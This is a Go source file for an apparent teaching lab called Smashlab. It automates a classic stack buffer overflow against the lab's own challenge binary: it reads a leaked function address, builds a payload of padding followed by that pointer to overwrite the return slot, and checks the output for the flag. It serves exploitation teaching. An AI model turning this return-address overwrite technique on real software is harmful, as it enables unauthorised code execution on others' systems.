/*
Author: KleaSCM
Email: KleaSCM@gmail.com
File: harness.go
Description: End-to-end exploit harness for Smashlab. Runs a challenge
binary, captures the address it leaks, builds the classic padding-plus-
pointer payload, feeds it back, and checks whether the secret routine's
flag came out the other side. The scripted version of what a learner does
by hand.
*/

package exploit

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"strings"
	"time"

	"github.com/kleascm/smashlab/pkg/logging"
	"github.com/kleascm/smashlab/pkg/payload"
	"github.com/kleascm/smashlab/pkg/stack"
	"github.com/kleascm/smashlab/pkg/target"
)

// LeakPrefix is the line prefix the challenge prints its leak behind.
const LeakPrefix = "Address of secret_function: "

// ErrNoLeak is returned when the target's output never contained a
// leaked address.
var ErrNoLeak = errors.New("no leaked address in target output")

// Config controls a Harness.
type Config struct {
	// Target is the path to the challenge binary.
	Target string `json:"target"`

	// TargetArgs are extra arguments passed to the binary.
	TargetArgs []string `json:"target_args"`

	// Offset is the number of padding bytes before the return slot.
	// Defaults to the lab's buffer capacity.
	Offset int `json:"offset"`

	// PadByte fills the padding region. Defaults to 'A'.
	PadByte byte `json:"pad_byte"`

	// Attempts is how many times to try before giving up. Defaults to 1.
	Attempts int `json:"attempts"`

	// Timeout bounds a single run of the target. Defaults to 10s.
	Timeout time.Duration `json:"timeout"`

	// OutputDir receives JSON attempt reports when non-empty.
	OutputDir string `json:"output_dir"`
}

// Validate checks the config and fills in defaults.
func (c *Config) Validate() error {
	if c.Target == "" {
		return fmt.Errorf("target binary is required")
	}
	if _, err := os.Stat(c.Target); err != nil {
		return fmt.Errorf("target binary not found: %w", err)
	}
	if c.Offset < 0 {
		return fmt.Errorf("offset must not be negative: %d", c.Offset)
	}
	if c.Offset == 0 {
		c.Offset = stack.BufferCapacity
	}
	if c.PadByte == 0 {
		c.PadByte = 'A'
	}
	if c.Attempts <= 0 {
		c.Attempts = 1
	}
	if c.Timeout <= 0 {
		c.Timeout = 10 * time.Second
	}
	return nil
}

// Harness drives exploit attempts against a challenge binary.
type Harness struct {
	config *Config
	logger *logging.Logger
	pm     payload.PointerMaker
}

// NewHarness creates a harness for the given config. The config must have
// been validated.
func NewHarness(config *Config, logger *logging.Logger) *Harness {
	return &Harness{
		config: config,
		logger: logger,
		pm:     payload.NewPointerMaker(),
	}
}

// ParseLeakedAddress extracts the leaked address from one line of target
// output. Lines without the leak prefix yield ErrNoLeak.
func ParseLeakedAddress(pm payload.PointerMaker, line string) (payload.Pointer, error) {
	_, rest, found := strings.Cut(line, LeakPrefix)
	if !found {
		return payload.Pointer{}, ErrNoLeak
	}
	return pm.FromHexString(strings.TrimSpace(rest))
}

// BuildPayload assembles the crafted input: offset bytes of padding
// followed by the leaked address encoded at pointer width. Landing those
// last bytes in the return slot is the whole exploit.
func (h *Harness) BuildPayload(addr payload.Pointer) ([]byte, error) {
	return payload.NewBuilder().
		RepeatByte(h.config.PadByte, h.config.Offset).
		Pointer(addr).
		Build()
}

// Run performs exploit attempts until one finds the flag or the attempt
// budget runs out. The last attempt is returned either way.
func (h *Harness) Run(ctx context.Context) (*Attempt, error) {
	var attempt *Attempt

	for i := 0; i < h.config.Attempts; i++ {
		var err error
		attempt, err = h.runOnce(ctx)
		if err != nil {
			return nil, err
		}

		if h.logger != nil {
			h.logger.LogAttempt(attempt.ID, attempt.FlagFound, attempt.Duration, map[string]interface{}{
				"attempt":   i + 1,
				"target":    h.config.Target,
				"leak":      attempt.LeakedAddress,
				"exit_code": attempt.ExitCode,
			})
		}

		if h.config.OutputDir != "" {
			if _, err := h.WriteReport(attempt); err != nil {
				return nil, err
			}
		}

		if attempt.FlagFound {
			return attempt, nil
		}
	}

	return attempt, nil
}

// runOnce spawns the target, exploits it, and records what happened.
func (h *Harness) runOnce(ctx context.Context) (*Attempt, error) {
	runCtx, cancel := context.WithTimeout(ctx, h.config.Timeout)
	defer cancel()

	start := time.Now()

	cmd := exec.CommandContext(runCtx, h.config.Target, h.config.TargetArgs...)

	stdin, err := cmd.StdinPipe()
	if err != nil {
		return nil, fmt.Errorf("failed to open target stdin: %w", err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		return nil, fmt.Errorf("failed to open target stdout: %w", err)
	}

	if err := cmd.Start(); err != nil {
		return nil, fmt.Errorf("failed to start target: %w", err)
	}

	output, crafted, leak, exploitErr := h.exploitStreams(stdout, stdin)

	exitCode := 0
	if waitErr := cmd.Wait(); waitErr != nil {
		var exitErr *exec.ExitError
		if errors.As(waitErr, &exitErr) {
			exitCode = exitErr.ExitCode()
		} else if exploitErr == nil {
			exploitErr = waitErr
		}
	}

	attempt := NewAttempt(h.config.Target)
	attempt.Payload = crafted
	attempt.Output = string(output)
	attempt.FlagFound = bytes.Contains(output, []byte(target.Flag))
	attempt.ExitCode = exitCode
	attempt.Duration = time.Since(start)
	if leak != nil {
		attempt.LeakedAddress = leak.HexString()
	}

	if exploitErr != nil && !attempt.FlagFound {
		return attempt, fmt.Errorf("exploit attempt %s failed: %w", attempt.ID, exploitErr)
	}

	return attempt, nil
}

// exploitStreams runs the wire-level conversation: scan for the leak,
// answer the prompt with the crafted payload, then drain the rest of the
// output. Returns everything read, the payload sent, and the parsed leak.
func (h *Harness) exploitStreams(stdout io.Reader, stdin io.WriteCloser) ([]byte, []byte, *payload.Pointer, error) {
	var output bytes.Buffer
	var leak *payload.Pointer

	scanner := bufio.NewScanner(stdout)
	scanner.Buffer(make([]byte, 64*1024), 1024*1024)

	for scanner.Scan() {
		line := scanner.Text()
		output.WriteString(line)
		output.WriteByte('\n')

		ptr, err := ParseLeakedAddress(h.pm, line)
		if err != nil {
			continue
		}
		leak = &ptr
		break
	}

	if leak == nil {
		stdin.Close()
		return output.Bytes(), nil, nil, ErrNoLeak
	}

	crafted, err := h.BuildPayload(*leak)
	if err != nil {
		stdin.Close()
		return output.Bytes(), nil, leak, err
	}

	if _, err := stdin.Write(append(crafted, '\n')); err != nil {
		return output.Bytes(), crafted, leak, fmt.Errorf("failed to write payload: %w", err)
	}
	stdin.Close()

	for scanner.Scan() {
		output.WriteString(scanner.Text())
		output.WriteByte('\n')
	}

	return output.Bytes(), crafted, leak, scanner.Err()
}
